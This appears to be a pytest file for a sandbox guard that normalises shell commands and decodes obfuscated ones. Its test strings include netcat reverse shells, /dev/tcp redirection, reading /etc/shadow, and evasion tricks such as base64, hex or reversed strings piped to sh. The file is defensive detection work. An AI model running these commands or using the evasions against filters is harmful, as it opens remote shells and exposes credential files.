"""Command-text normalisation against cheap evasions."""

from __future__ import annotations

import pytest

from sandbox.guard.normalize import normalize, variants


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("n''c  -e   /bin/sh", "nc -e /bin/sh"),
        ('"n"c -e sh', "nc -e sh"),
        (r"\n\c -e sh", "nc -e sh"),
        (r"$'\x6e\x63' -e sh", "nc -e sh"),
        ("a=n; b=c; $a$b -e sh", "a=n; b=c; nc -e sh"),
        ("export T=/dev/tcp; echo >${T}/h/1", "export T=/dev/tcp; echo >/dev/tcp/h/1"),
        ("cat${IFS}/etc/shadow", "cat /etc/shadow"),
        ("{nc,-e,/bin/sh}", "nc -e /bin/sh"),
    ],
)
def test_normalize(text: str, expected: str) -> None:
    assert normalize(text) == expected


def test_variants_decode_base64_and_quoted_bodies() -> None:
    v = variants("echo bmMgLWUgL2Jpbi9zaCAyMDMuMC4xMTMuMTAgNDQ0NA== | base64 -d | sh")
    assert "nc -e /bin/sh 203.0.113.10 4444" in v
    v = variants("bash -c 'nc -e /bin/sh h 1'")
    assert "nc -e /bin/sh h 1" in v


def test_variants_decode_hex_and_rev() -> None:
    assert "nc -e sh" in variants("echo 6e63202d65207368 | xxd -r -p | sh")
    assert "nc -e sh" in variants("echo 'hs e- cn' | rev | sh")


def test_variants_bounded() -> None:
    """Nested encodings and long inputs stay bounded."""
    text = " ".join(f"'x{i}'" for i in range(200))
    assert len(variants(text)) <= 24


def test_base64_ignored_without_a_decoder() -> None:
    """Random tokens are not decoded unless the command mentions a decoder."""
    assert len(variants("pip install aGVsbG8gd29ybGQgaGVsbG8=")) <= 2
